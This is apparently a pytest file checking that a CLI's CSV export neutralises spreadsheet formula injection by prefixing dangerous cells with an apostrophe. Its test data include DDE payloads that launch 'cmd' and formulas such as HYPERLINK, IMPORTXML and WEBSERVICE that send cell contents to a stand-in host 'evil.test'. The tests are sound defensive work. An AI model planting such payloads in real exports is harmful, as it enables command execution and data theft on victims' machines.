"""Text that a spreadsheet would run as a formula, in CSV."""

import csv
import io
import re

import pytest

from photolake_cli.errors import CommandError
from photolake_cli.export.run import ExportRequest
from photolake_cli.query.export import FORMULA_STARTS, write_csv
from photolake_cli.query.result import Column, QueryResult
from photolake_cli.query.run import QueryRequest
from tests.resolved_template import ROOT

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.test?",A1),"//a")',
    '=WEBSERVICE("https://evil.test")',
    '=IMAGE("https://evil.test")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+SUM(1,1)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "=1+1\n=2+2",
    '="a","b"',
    "=1;2",
    "-",
    "+",
    "@ann",
    "=",
]
HARMLESS = ["", "a=1", "1-2", "'=1+1", " =1+1", "#hashtag", "https://x.test", "$5", '"=1"', "\u202e=1", "\U0001f600"]


def write(row, types, **options):
    """The rows of the CSV file, as a program reads them, and its text."""
    columns = [Column(f"c{number}", kind) for number, kind in enumerate(types)]
    out = io.StringIO()
    write_csv(QueryResult(columns, iter([[row]])), out, **options)
    return out.getvalue()


def read(text, delimiter=","):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_like_a_formula_in_a_file_for_a_spreadsheet(text, delimiter):
    written = write([text, text], ["varchar", "row"], delimiter=delimiter, for_excel=True)
    assert read(written, delimiter) == [f"'{text}", f"'{text}"]
    assert written[0] == "\ufeff"


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_a_file_for_programs_is_exact(text):
    written = write([text], ["varchar"])
    assert read(written) == [text]
    assert written.startswith("c0\n")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_not_a_formula_is_exact_for_a_spreadsheet_too(text):
    assert read(write([text], ["varchar"], for_excel=True)) == [text]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("-1", "bigint"),
        ("-0.5", "double"),
        ("-1E-5", "real"),
        ("-12.50", "decimal"),
        ("-7", "integer"),
        ("-1", "tinyint"),
    ],
)
def test_a_negative_number_is_a_number_for_a_spreadsheet(text, kind):
    assert read(write([text], [kind], for_excel=True)) == [text]


def test_null_stays_nothing_and_a_name_of_a_column_is_guarded():
    out = io.StringIO()
    columns = [Column("=1+1", "varchar"), Column("b", "varchar")]
    write_csv(QueryResult(columns, iter([[[None, ""]]])), out, for_excel=True)
    assert out.getvalue() == '\ufeff\'=1+1,b\n,""\n'


def test_the_page_guards_the_same_texts():
    (pattern,) = re.findall(r"/\^\[(.+?)\]/", (ROOT / "dashboard/src/csv.ts").read_text())
    assert set(pattern.replace(r"\-", "-").replace(r"\t", "\t").replace(r"\r", "\r")) == set(FORMULA_STARTS)


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: ExportRequest("tweets", "postgresql://x/y", excel=True), "--excel is for CSV files"),
        (lambda: ExportRequest("tweets", "rows.parquet", excel=True), "--excel is for CSV files"),
        (lambda: ExportRequest("tweets", "rows.json", excel=True), "--excel is for CSV files"),
        (lambda: QueryRequest("select 1", excel=True, output=ROOT / "x.json"), "--excel is for CSV"),
        (lambda: QueryRequest(list_saved=True, excel=True), "nothing to run"),
    ],
)
def test_a_file_of_another_kind_is_not_for_a_spreadsheet(make, said):
    with pytest.raises(CommandError, match=said):
        make()


def test_a_query_for_a_spreadsheet_is_csv():
    assert QueryRequest("select 1", excel=True).format == "csv"
